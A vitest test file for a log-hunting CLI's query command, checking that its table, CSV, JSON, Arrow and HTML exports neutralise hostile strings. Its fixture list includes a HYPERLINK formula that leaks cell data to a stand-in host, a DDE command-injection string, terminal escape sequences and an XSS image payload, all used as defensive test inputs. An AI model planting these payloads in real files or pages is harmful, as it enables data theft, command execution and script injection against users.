/**
 * Output of `trailhound query`: the terminal table neutralises control characters, CSV quotes
 * properly and defuses spreadsheet formulas, JSON/NDJSON round-trip, Arrow is a readable IPC file —
 * with hostile strings in the data. Also the query command end to end (local engine, --db, --out,
 * --report) and its registration through commander.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { Field, Float64, Int64, RecordBatch, Schema, Table, TimeUnit, Timestamp, Utf8, tableFromIPC, vectorFromArray, makeData, Struct } from 'apache-arrow';
import type { Command } from 'commander';
import { buildProgram } from '../../src/cli.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run as runHunts } from '../../src/commands/hunts.js';
import type { CommandOutcome } from '../../src/commands/outcome.js';
import { run as runQuery } from '../../src/commands/query.js';
import { csvField, neutralizeFormula } from '../../src/output/export-csv.js';
import { exportResults, type ExportFormat } from '../../src/output/export-results.js';

const ESC = '\u001b';
const HOSTILE = [
  `${ESC}[2J${ESC}]0;pwned${ESC}\\ user-agent`,
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)',
  '\tTAB start',
  '\rCR start',
  'comma, "quoted"\nnewline',
  '<img src=x onerror=alert(1)>',
  'plain',
];

function collector(): Writable & { text(): string; bytes(): Buffer } {
  const chunks: Buffer[] = [];
  const w = new Writable({
    write(chunk: Buffer, _enc, cb) {
      chunks.push(Buffer.from(chunk));
      cb();
    },
  }) as Writable & { text(): string; bytes(): Buffer };
  w.bytes = () => Buffer.concat(chunks);
  w.text = () => w.bytes().toString('utf8');
  return w;
}

function hostileBatch(): RecordBatch {
  const schema = new Schema([
    new Field('=name', new Utf8(), true),
    new Field('n', new Float64(), true),
    new Field('big', new Int64(), true),
    new Field('t', new Timestamp(TimeUnit.MILLISECOND, 'UTC'), true),
  ]);
  const len = HOSTILE.length;
  const children = [
    vectorFromArray(HOSTILE, new Utf8()).data[0],
    vectorFromArray(HOSTILE.map((_, i) => (i === 3 ? -5 : i === 4 ? null : i + 0.5)), new Float64()).data[0],
    vectorFromArray(HOSTILE.map((_, i) => (i === 0 ? 9007199254740993n : BigInt(i))), new Int64()).data[0],
    vectorFromArray(HOSTILE.map((_, i) => 1773094265000 + i * 1000), new Timestamp(TimeUnit.MILLISECOND, 'UTC')).data[0],
  ];
  return new RecordBatch(schema, makeData({ type: new Struct(schema.fields), length: len, nullCount: 0, children }));
}

async function exported(format: ExportFormat): Promise<Buffer> {
  const batch = hostileBatch();
  const out = collector();
  const summary = await exportResults(format, batch.schema, (async function* () {
    yield batch;
  })(), out);
  expect(summary.rows).toBe(HOSTILE.length);
  return out.bytes();
}

describe('exporters with hostile strings', () => {
  it('table: control characters shown escaped, never written raw', async () => {
    const text = (await exported('table')).toString('utf8');
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
    expect(text).toContain('\\u001b[2J\\u001b]0;pwned\\u001b\\ user-agent');
    expect(text).toContain('\\u0009TAB start');
    expect(text).toContain('\\u000dCR start');
    expect(text).toContain('comma, "quoted"\\u000anewline');
    expect(text).toMatch(/10 row\(s\)\n$/);
  });

  it('csv: formula starts defused in text cells, RFC 4180 quoting, numbers untouched', async () => {
    expect(neutralizeFormula('=1+1')).toBe("'=1+1");
    for (const c of ['+', '-', '@', '\t', '\r']) expect(neutralizeFormula(`${c}x`)).toBe(`'${c}x`);
    expect(neutralizeFormula('a=1')).toBe('a=1');
    expect(csvField('a"b')).toBe('"a""b"');
    const lines = (await exported('csv')).toString('utf8');
    const records = parseCsv(lines);
    expect(records[0]).toEqual(["'=name", 'n', 'big', 't']);
    expect(records.slice(1).map((r) => r[0])).toEqual([
      `${ESC}[2J${ESC}]0;pwned${ESC}\\ user-agent`,
      '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(1+1)",
      "'\tTAB start",
      "'\rCR start",
      'comma, "quoted"\nnewline',
      '<img src=x onerror=alert(1)>',
      'plain',
    ]);
    expect(records[4][1]).toBe('-5'); // a number stays a number
    expect(records[5][1]).toBe(''); // null
    expect(records[1][2]).toBe('9007199254740993');
    expect(records[1][3]).toBe('2026-03-09T22:11:05.000Z');
    // every cell that starts dangerously in the file is inside quotes or prefixed
    for (const r of records.slice(1)) expect(r[0]).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('json and ndjson: the same values round-trip, big integers exact', async () => {
    const json = JSON.parse((await exported('json')).toString('utf8')) as Record<string, unknown>[];
    const nd = (await exported('ndjson')).toString('utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(nd).toEqual(json);
    expect(json.map((r) => r['=name'])).toEqual(HOSTILE);
    expect(json[0]).toMatchObject({ big: '9007199254740993', t: '2026-03-09T22:11:05.000Z', n: 0.5 });
    expect(json[1].big).toBe(1);
    expect(JSON.parse((await exportEmpty('json')).toString('utf8'))).toEqual([]);
  });

  it('arrow: an IPC file with the same schema and values', async () => {
    const bytes = await exported('arrow');
    expect(bytes.subarray(0, 6).toString()).toBe('ARROW1');
    const t: Table = tableFromIPC(bytes);
    expect(t.numRows).toBe(HOSTILE.length);
    expect(t.schema.fields.map((f) => f.name)).toEqual(['=name', 'n', 'big', 't']);
    expect(t.getChild('=name')!.toArray()).toEqual(HOSTILE);
    expect(t.getChild('big')!.get(0)).toBe(9007199254740993n);
    expect(tableFromIPC(await exportEmpty('arrow')).numRows).toBe(0);
  });
});

async function exportEmpty(format: ExportFormat): Promise<Buffer> {
  const out = collector();
  await exportResults(format, hostileBatch().schema, (async function* () {})(), out);
  return out.bytes();
}

/** A strict RFC 4180 reader for the test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else cell += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && !(text[i] === '\r' && text[i + 1] === '\n')) cell += text[i++];
    }
    row.push(cell);
    if (text[i] === ',') i++;
    else if (text[i] === '\r' && text[i + 1] === '\n') {
      rows.push(row);
      row = [];
      i += 2;
    }
  }
  return rows;
}

describe('the query command', () => {
  let tmp: string;
  beforeAll(() => {
    tmp = mkdtempSync(path.join(tmpdir(), 'trailhound-query-cmd-'));
  });
  afterAll(() => rmSync(tmp, { recursive: true, force: true }));

  it('ad-hoc SQL with --arg values, each format, --report with hostile values escaped', async () => {
    const db = path.join(tmp, 'empty.duckdb');
    const sql = 'SELECT ? AS ua, ? AS f, CAST(? AS BIGINT) AS n';
    const args = [HOSTILE[8], HOSTILE[1], 'int:7'];
    const table = collector();
    await runQuery(sql, [], { db, arg: args, format: 'table' }, { stdout: table });
    expect(table.text()).toContain('<img src=x onerror=alert(1)>');
    const csv = collector();
    await runQuery(sql, [], { db, arg: args, format: 'csv' }, { stdout: csv });
    expect(csv.text()).toBe(`ua,f,n\r\n<img src=x onerror=alert(1)>,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",7\r\n`);
    const report = path.join(tmp, 'q.html');
    const arrow = path.join(tmp, 'q.arrow');
    await runQuery(sql, [], { db, arg: args, out: arrow, report }, { stdout: collector() });
    expect(tableFromIPC(readFileSync(arrow)).get(0)!.toJSON()).toMatchObject({ ua: HOSTILE[8], n: 7n });
    const html = readFileSync(report, 'utf8');
    expect(html).not.toContain('<img src=x');
    expect(html).toContain('\\u003cimg src=x onerror=alert(1)\\u003e');
  });

  it('hunts on SOURCE arguments; the same with --db twice (the second run loads nothing)', async () => {
    const { bundledSamples } = await import('../../src/paths.js');
    const source = path.join(bundledSamples(), 's3access/northwind-prod-backups');
    const first = collector();
    const outcome: CommandOutcome = await runQuery(source, [], { hunt: 'requests-without-tls', format: 'ndjson', workers: '1' }, { stdout: first });
    expect(outcome.partial).toBe(false);
    const rows = first.text().trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows).toEqual([expect.objectContaining({ principal: 'arn:aws:iam::418632750914:user/backup-agent', requests: 33 })]);

    const db = path.join(tmp, 'case.duckdb');
    const a = collector();
    await runQuery(source, [], { hunt: 'requests-without-tls', format: 'ndjson', db, workers: '1' }, { stdout: a });
    const { LocalDb } = await import('../../src/query/local-db.js');
    const check = await LocalDb.open(db);
    const loaded = await check.eventCount();
    check.close();
    const b = collector();
    await runQuery(source, [], { hunt: 'requests-without-tls', format: 'ndjson', db, workers: '1' }, { stdout: b });
    const again = await LocalDb.open(db);
    expect(await again.eventCount()).toBe(loaded);
    again.close();
    expect(b.text()).toBe(a.text());
    expect(a.text()).toBe(first.text());
    // no source and --db: query what is there
    const c = collector();
    await runQuery(undefined, [], { hunt: 'requests-without-tls', format: 'ndjson', db }, { stdout: c });
    expect(c.text()).toBe(a.text());
  });

  it('usage errors: no SQL, --param without a hunt, --since with ad-hoc SQL, unknown format', async () => {
    const db = path.join(tmp, 'empty2.duckdb');
    await expect(runQuery(undefined, [], { db }, { stdout: collector() })).rejects.toThrow(/give a SQL statement/);
    await expect(runQuery('SELECT 1', [], { db, param: ['a=1'] }, { stdout: collector() })).rejects.toThrow(/--param names a hunt parameter/);
    await expect(runQuery('SELECT 1', [], { db, since: '7d' }, { stdout: collector() })).rejects.toThrow(/--since\/--until fill the time range of a hunt/);
    await expect(runQuery('SELECT 1', [], { db, format: 'xml' }, { stdout: collector() })).rejects.toThrow(/--format must be one of/);
    await expect(runQuery(undefined, [], { hunt: 'nope', db }, { stdout: collector() })).rejects.toThrow(/unknown hunt/);
  });

  it('hunts lists every hunt with its parameters; hunts NAME shows the SQL', async () => {
    const list = collector();
    await runHunts(undefined, {}, list);
    expect(list.text()).toMatch(/principal-timeline\s+Everything a principal did/);
    expect(list.text()).toContain('principal:string');
    expect(list.text()).toContain('min_denied:integer=20');
    const one = collector();
    await runHunts('who-touched-key', {}, one);
    expect(one.text()).toContain('--param key:string');
    expect(one.text()).toContain('partition_date BETWEEN ? AND ?');
    const json = collector();
    await runHunts(undefined, { format: 'json' }, json);
    expect((JSON.parse(json.text()) as unknown[]).length).toBeGreaterThanOrEqual(12);
  });
});

describe('registration in src/cli.ts', () => {
  /** The CLI's own commander program, with the query action swapped for a recorder. */
  function program(calls: unknown[][]): Command {
    const p = buildProgram();
    p.commands
      .find((c) => c.name() === 'query')!
      .action((...args: unknown[]) => {
        calls.push(args.slice(0, -1));
      });
    return p;
  }

  it('passes (sql, sources, options) for SQL and (first source, rest, options) with --hunt', async () => {
    const calls: unknown[][] = [];
    await program(calls).parseAsync(['query', 'SELECT 1', 'logs/', '--format', 'csv', '--arg', 'a', '--arg', 'int:2'], { from: 'user' });
    await program(calls).parseAsync(['query', '--hunt', 'who-touched-key', '--param', 'bucket=b', '--param', 'key=k/', 'a/', 'b/', '--since', '7d'], { from: 'user' });
    expect(calls[0]).toMatchObject(['SELECT 1', ['logs/'], { format: 'csv', arg: ['a', 'int:2'], param: [], engine: 'local' }]);
    expect(calls[1]).toMatchObject(['a/', ['b/'], { hunt: 'who-touched-key', param: ['bucket=b', 'key=k/'], arg: [], since: '7d', engine: 'local' }]);
  });
});
